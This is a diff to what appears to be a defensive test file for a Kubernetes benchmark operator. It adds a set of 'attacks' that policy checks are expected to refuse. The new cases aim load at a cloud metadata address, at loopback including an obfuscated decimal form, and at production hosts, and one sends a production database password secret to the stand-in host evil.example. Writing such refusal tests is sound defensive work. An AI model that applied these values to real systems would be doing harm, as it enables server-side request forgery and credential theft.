@@ -25,8 +25,9 @@ TENANT_FENCE: dict[str, Any] = {
     "podLabels": [*FENCE["podLabels"], "specbench.io/*"],
     "podAnnotations": [*FENCE["podAnnotations"], "container.apparmor.security.beta.kubernetes.io/*"],
     "stores": [{"endpoint": "http://*", "bucket": BUCKET, "operatorIdentity": False}],
+    "endpoints": ["http://*"],
 }
-"""The fence of these tests. The wildcard endpoint lets addresses through that only the check of addresses refuses,
+"""The fence of these tests. The wildcard endpoints let addresses through that only the check of addresses refuses,
 and the lists for pods contain keys that only the check of reserved keys refuses."""
 
 
@@ -41,6 +42,7 @@ class Item(StrEnum):
     IMAGES = "Programs, images and environment"
     LIMITS = "More than a fair share"
     STORES = "Addresses and buckets that the operator can reach"
+    SERVERS = "Load on servers of other people"
     TEMPLATE = "More than the pod template may add"
     METADATA = "Trust in forged metadata"
 
@@ -387,6 +389,29 @@ _STORE_ATTACKS = (
 )  # fmt: skip
 
 
+def _server(name: str, url: str, shown: str = "engine.endpoints[0].url", **engine: Any) -> Attack:
+    """A run that sends load to a server, whose client the policy and the operator refuse for the same field."""
+    endpoint = {"name": "server", "url": url}
+    edits = {
+        "spec.engine": {"kind": "external", "endpoints": [endpoint], **engine},
+        "spec.drafters": [],
+        "spec.placement": {"client": {"nodeSelector": {"nvidia.com/gpu.product": "none"}}},
+    }
+    gets = {"secretKeyRef": {"name": "prod-db", "key": "password"}} if engine else {"command": ["specbench-client"]}
+    return Attack(name, edits, shown, shown, gets)
+
+
+_SERVER_ATTACKS = (
+    _server("load-on-others", "https://payments.prod.example"),
+    _server("load-on-a-path-of-others", "http://payments.prod/api"),
+    _server("load-on-the-metadata-service", "http://169.254.169.254"),
+    _server("load-on-loopback", "http://127.0.0.1:8000"),
+    _server("load-on-loopback-decimal", "http://2130706433:8000"),
+    _server(
+        "secret-as-api-key", "http://evil.example:8000", "engine.apiKeySecretRef.name",
+        apiKeySecretRef={"name": "prod-db", "key": "password"},
+    ),
+)  # fmt: skip
 _POD = "placement.template"
 _ENGINE = f"{_POD}.spec.containers[0]"
 
@@ -523,6 +548,7 @@ ATTACKS: Mapping[Item, tuple[Attack, ...]] = {
     Item.IMAGES: _IMAGE_ATTACKS,
     Item.LIMITS: _LIMIT_ATTACKS,
     Item.STORES: _STORE_ATTACKS,
+    Item.SERVERS: _SERVER_ATTACKS,
     Item.TEMPLATE: _TEMPLATE_ATTACKS,
     Item.METADATA: _METADATA_ATTACKS,
 }
